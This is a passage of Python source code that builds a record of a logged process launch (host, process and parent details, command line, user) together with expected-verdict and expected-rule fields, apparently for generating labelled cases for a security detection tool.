        "name": job.name, "kind": job.kind, "description": job.description, "host": h.name, "host_fqdn": h.fqdn,
        "host_ip": h.ip, "log_format": h.fmt, "timestamp": iso_ms(mk.start_ms),
        "process_entity_id": logged_guid(h.fmt, mk.guid), "process_guid": mk.guid, "pid": mk.pid,
        "image": mk.image, "original_file_name": mk.pe.original_file_name, "command_line": mk.cmd,
        "working_directory": mk.cwd, "parent_image": parent.image, "parent_command_line": parent.cmd,
        "parent_entity_id": logged_guid(h.fmt, parent.guid), "user": mk.logon.user,
        "expected_verdict": job.verdict, "expected_findings": [], "possible_findings": [], "campaign": None, "expected_rules": [], "expected_rule_ids": [],
        "sources": [{"kind": "local", "host": None, "ip": None, "port": None,
                     "path": cab[:-4] + ".log", "sha256": None}],
        "cabinet": cabinet,
        "directive_file": None, "allowlist_entry": None,
    }
